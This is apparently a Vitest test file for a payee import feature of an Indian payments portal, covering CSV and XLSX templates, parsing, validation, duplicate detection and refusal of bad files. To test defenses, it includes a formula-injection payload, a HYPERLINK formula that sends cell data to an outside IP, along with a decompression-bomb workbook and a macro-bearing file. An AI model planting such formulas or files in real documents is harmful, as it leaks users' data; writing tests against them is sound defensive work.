import { setTimeout as pause } from 'node:timers/promises'
import { IMPORT_FILE_MESSAGES } from '@chukta/contract/file-messages'
import { PAYEE_IMPORT_MESSAGES } from '@chukta/contract/payables/payee-import-messages'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import * as XLSX from 'xlsx'
import { xlsx } from '../../../../test/files/office-files.ts'
import { setFaults } from '../../../../test/money/paying.ts'
import {
  csvOf,
  payeeRow,
  payeesOf,
  readFile,
  sendRows,
  workbookOf,
} from '../../../../test/payables/payee-files.ts'
import {
  addPayee,
  ask,
  category,
  formOf,
  goodFields,
  sample,
  serviceId,
} from '../../../../test/payables/payee-forms.ts'
import { type Portal, startPortal } from '../../../../test/portal/harness.ts'
import { makePeople, makePerson, type People, type Person } from '../../../../test/portal/people.ts'
import { one } from '../../../platform/database/db.ts'

const rental = category('rental')
const messages = { ...IMPORT_FILE_MESSAGES, ...PAYEE_IMPORT_MESSAGES }

let portal: Portal
let people: People
beforeAll(async () => {
  portal = await startPortal()
  people = await makePeople(portal.db)
  // No bank answers here: account checks are not under test.
  await setFaults(portal, { timeout_before: true, timeout_ms: 50, scope: 'secure-id' })
})
afterAll(() => portal?.stop())

/** A payer without payees. */
const newPayer = () =>
  makePerson(portal.db, { roleId: 4, parentId: people.distributor.id, first: 'Kiran', last: 'Rao' })
const payee = (of = rental, number = 0) => payeeRow(portal, of, number)
const stored = (who: Person) => payeesOf(portal, who)
const rowsOf = (length: number, row: Record<string, string> = { name: 'x' }) =>
  csvOf(
    rental,
    Array.from({ length }, () => row),
  )
const read = (who: Person, content: string | Buffer, of = rental) => readFile(portal, who, content, { of })

describe('the template', () => {
  const template = async (format: string, of = rental, who = people.retailer) => {
    const response = await fetch(
      `${portal.url}/api/payee-imports/template/${await serviceId(portal, of)}?format=${format}`,
      { headers: { Authorization: `Bearer ${who.token}` } },
    )
    return { response, bytes: Buffer.from(await response.arrayBuffer()) }
  }

  it.each(['rental', 'vendor', 'donation', 'ca', 'salary', 'legal'])(
    'of %s has the fields of its form',
    async (key) => {
      const of = category(key)
      const expected = [
        of.add.labels.name,
        'Mobile',
        of.add.labels.pan_number,
        'Address',
        'Bank Name',
        'Account Number',
        'Account Holder Name',
        'Branch',
        'IFSC Code',
        of.add.amount.label,
        ...(of.paymentTypes ? ['Payment For'] : []),
      ]
      const csv = await template('csv', of)
      expect(csv.bytes.toString('utf8').replace('\uFEFF', '')).toBe(`${expected.join(',')}\r\n`)
      expect(csv.response.headers.get('content-disposition')).toContain(`${key}-payees.csv`)
      const { Sheets, SheetNames } = XLSX.read((await template('xlsx', of)).bytes)
      const sheet = Sheets[SheetNames[0] as string] as XLSX.WorkSheet
      expect(XLSX.utils.sheet_to_json(sheet, { header: 1 })).toEqual([expected])
      // Unchanged, it can be filled in and uploaded.
      const sent = await read(people.retailer, csv.bytes, of)
      expect(sent.body.errors).toEqual({ file: [messages.fileEmpty] })
    },
  )

  it('has text cells in the workbook, so that no zero of a number is lost', async () => {
    const parts = unzipSync((await template('xlsx')).bytes)
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] as Uint8Array)
    const styles = strFromU8(parts['xl/styles.xml'] as Uint8Array)
    expect(sheet.match(/<col [^>]*style="4"/g)).toHaveLength(11)
    expect(styles).toMatch(/(<xf [^>]*>){4}<xf numFmtId="49"/)
  })

  it('is for those who may add payees', async () => {
    expect((await template('csv', rental, people.distributor)).response.status).toBe(403)
    expect((await template('doc')).response.status).toBe(422)
  })
})

describe('a file', () => {
  it('is read as CSV and as XLSX, tidied as the form tidies', async () => {
    const plain = await payee(rental, 7)
    const typed = {
      ...plain,
      mobile: '+91 98903-55128',
      pan_number: 'aklpn 4521r',
      account_number: '0031-2340 000007',
      payment_type: 'house  RENT',
    }
    for (const content of [
      csvOf(rental, [{ ...typed, rent: '₹18,500.50' }]),
      workbookOf(rental, [{ ...typed, rent: '18500.50' }]),
    ]) {
      const { status, data } = await read(people.retailer, content)
      expect(status).toBe(200)
      expect(data.message).toBe('1 payee read. Nothing is stored yet.')
      const [row] = data.rows
      expect(row).toMatchObject({ line: 2, errors: {}, same_as: null })
      expect(row?.values).toEqual({ ...plain, rent: expect.stringMatching(/^18500\.50?$/) })
    }
    expect(await stored(await newPayer())).toEqual([])
  })

  it('may have its columns in any order, other headings and unknown ones, and a title above', async () => {
    const row = await payee()
    const head = [
      'ifsc',
      ' PAN *',
      'account_number',
      'A/C holder',
      'Account holder',
      'BANK',
      'branch',
      'MONTHLY  rent',
      'payment for',
      'Name',
      'mobile number',
      'Notes',
    ]
    const cells = [
      row.ifsc_code,
      row.pan_number,
      `"=""${row.account_number}"""`,
      'x',
      row.account_holder_name,
      row.bank_name,
      row.bank_branch,
      row.rent,
      'houserent',
      row.name,
      row.mobile,
      'y',
    ]
    const { data } = await read(people.retailer, `Landlords of 2026\n\n${head.join(',')}\n${cells.join(',')}`)
    expect(data.unknown_columns).toEqual(['A/C holder', 'Notes'])
    expect(data.rows).toMatchObject([{ line: 4, errors: {}, values: { ...row, address: '' } }])
  })

  it('gives each error in the form’s sentence', async () => {
    const row = { ...(await payee()), mobile: '12345', pan_number: 'X', rent: '0', payment_type: 'castle' }
    const form = formOf({ ...(await goodFields(portal, rental, people.retailer)), ...row })
    const byForm = await ask(portal, people.retailer, '/store-service-list', form)
    const { data } = await read(
      people.retailer,
      csvOf(rental, [row, { ...row, name: '', account_number: '1-2' }]),
    )
    expect(Object.keys(byForm.body.errors)).toHaveLength(4)
    expect(data.rows[0]?.errors).toEqual(byForm.body.errors)
    expect(data.rows[1]?.errors).toEqual({
      ...byForm.body.errors,
      name: ['Name is required.'],
      account_number: ['Account number must be 9 to 18 letters or digits.'],
    })
  })

  it('names payees that have the account already, of this payer and service alone', async () => {
    const payer = await newPayer()
    const row = await payee(rental, 41)
    await addPayee(portal, people.retailer, rental, row)
    expect((await read(payer, csvOf(rental, [row]))).data.rows[0]?.same_as).toBeNull()
    const id = await addPayee(portal, payer, rental, { ...row, user_id: String(payer.id) })
    const rows = [
      row,
      { ...row, account_number: `9${row.account_number}` },
      { ...row, ifsc_code: 'MAHB0000175' },
    ]
    const { data } = await read(payer, csvOf(rental, rows))
    expect(data.rows.map(({ same_as }) => same_as)).toEqual([{ id, name: 'Payee 41' }, null, null])
    expect(data.rows[0]?.errors).toEqual({})
  })

  it('holds no number that a spreadsheet has cut', async () => {
    const rows = [
      { ...(await payee()), account_number: '1234567890123456' },
      { ...(await payee()), account_number: '123456789012' },
    ]
    const { data } = await read(people.retailer, workbookOf(rental, rows, ['account_number']))
    expect(data.rows.map(({ errors }) => Object.keys(errors))).toEqual([['account_number'], []])
  })

  it('is never run: a formula is text or the value saved with it, and cards are masked', async () => {
    const hostile = '=HYPERLINK("http://192.0.2.1/?"&A1)'
    const row = { ...(await payee()), name: hostile, address: 'Card 4111 1111 1111 1111' }
    const { data } = await read(people.retailer, csvOf(rental, [row]))
    expect(data.rows[0]?.values).toMatchObject({ name: hostile, address: 'Card ************1111' })
    const checked = await sendRows(portal, people.retailer, '/check', [row], { of: rental })
    expect(checked.body.data.rows[0].values.address).toBe('Card ************1111')
    const parts = unzipSync(workbookOf(rental, [row]))
    const place = 'xl/worksheets/sheet1.xml'
    const cell = /<c r="A2"[^>]*>.*?<\/c>/
    const formula = '<c r="A2" t="str"><f>HYPERLINK("http://192.0.2.1/"&amp;G2,"x")</f><v>Saved</v></c>'
    const sheet = strFromU8(parts[place] as Uint8Array)
    expect(sheet).toMatch(cell)
    const workbook = zipSync({ ...parts, [place]: strToU8(sheet.replace(cell, formula)) })
    expect((await read(people.retailer, Buffer.from(workbook))).data.rows[0]?.values.name).toBe('Saved')
  })

  it.each<[string, () => string | Buffer | Promise<string | Buffer>, RegExp]>([
    ['nothing but a heading', () => csvOf(rental, []), /no payees below/],
    ['an old Excel file', () => sample('xls').bytes, /old Excel file/],
    ['a PDF', () => Buffer.concat([sample('pdf').bytes, Buffer.from([0xff, 0xfe])]), /not CSV text/],
    ['a picture', () => sample('png').bytes, /not CSV text/],
    ['a letter', () => sample('docx').bytes, /workbook cannot be read/],
    [
      'a bomb',
      () => xlsx([{ name: 'xl/media/a.bmp', bytes: Buffer.alloc(60 * 1024 * 1024) }]),
      /unfolds to more than 50 MB/,
    ],
    ['macros', () => xlsx([{ name: 'xl/vbaProject.bin', bytes: 'x' }]), /macros/],
    ['a workbook cut off', () => workbookOf(rental, []).subarray(0, -30), /cannot be read|damaged/],
    ['missing columns', () => 'Name,Mobile\nA,9876543210', /lacks the columns PAN Number, Bank Name/],
    ['a column twice', async () => `${csvOf(rental, [])},Mobile No\n1`, /“Mobile No” is there twice/],
    ['a comma too many', async () => `${csvOf(rental, [await payee()])},x`, /Line 2 has more cells/],
    ['an open quotation mark', async () => `${csvOf(rental, [await payee()])}\n"x`, /Line 3 cannot be read/],
    ['too many rows', () => rowsOf(1_001), /more than 1,000 payees/],
    ['far too many rows', () => rowsOf(5_000), /more than 1,000 payees/],
  ])('is refused with a sentence: %s', async (_what, make, sentence) => {
    const { status, body } = await read(people.retailer, await make())
    expect([status, Object.keys(body.errors)]).toEqual([422, ['file']])
    expect(body.errors.file.join(' ')).toMatch(sentence)
  })

  it('is read outside the server, whose other calls continue', async () => {
    const bytes = 10 * 1024 * 1024
    const spent = async (work: () => Promise<unknown>) => {
      const [from, before] = [performance.now(), process.cpuUsage()]
      await work()
      const { user, system } = process.cpuUsage(before)
      return { cpuMs: (user + system) / 1000, tookMs: performance.now() - from }
    }
    // The cost of its sweeps meanwhile: the more, the longer a busy machine takes.
    const idle = await spent(() => pause(1_000))
    const processorMs = async (content: string) => {
      const { cpuMs, tookMs } = await spent(async () => {
        const { status, body } = await read(people.retailer, content)
        const said = expect.stringMatching(/no payees|cannot be read/)
        expect([status, body.errors]).toEqual([422, { file: [said] }])
      })
      return cpuMs - (idle.cpuMs / idle.tookMs) * tookMs
    }
    // The cost of sending and receiving 10 MB here, since the test is in the server's process.
    const sent = await processorMs('"'.repeat(bytes))
    const lines = await processorMs('\n'.repeat(bytes))
    const cells = await processorMs(`${','.repeat(98)}\n`.repeat(bytes / 99))
    console.log('CSV of 10 MB, ms of the server:', [sent, lines, cells].map(Math.round).join())
    expect(Math.max(lines, cells)).toBeLessThan(2 * sent + 50)
  })

  it('of long texts costs only a bounded search for card numbers', async () => {
    const texts = ['name', 'address', 'account_holder_name', 'bank_name', 'bank_branch']
    const long = Object.fromEntries(texts.map((name) => [name, '1-'.repeat(900)]))
    const row = { ...(await payee()), ...long }
    const before = process.cpuUsage()
    const { data } = await read(people.retailer, rowsOf(400, row))
    const { user } = process.cpuUsage(before)
    expect(Object.keys(data.rows[0]?.errors ?? {})).toEqual(expect.arrayContaining(['name', 'bank_name']))
    // Six seconds without a limit; sending, judging and answering are in it.
    expect(user / 1e6).toBeLessThan(3)
  })

  it('is refused when it is none, too large, or for a service without payees', async () => {
    const form = new FormData()
    form.set('user_id', String(people.retailer.id))
    form.set('service_id', String(await serviceId(portal, rental)))
    const none = await ask(portal, people.retailer, '/payee-imports/file', form)
    expect([none.status, none.body.errors]).toEqual([422, { file: [messages.fileRequired] }])
    expect((await read(people.retailer, 'x'.repeat(10 * 1024 * 1024 + 1))).status).toBe(413)
    const loans = await one(portal.db, sql<{ id: number }>`select id from services where slug = 'loans-emi'`)
    form.set('service_id', String(loans.id))
    expect((await ask(portal, people.retailer, '/payee-imports/file', form)).status).toBe(404)
  })
})
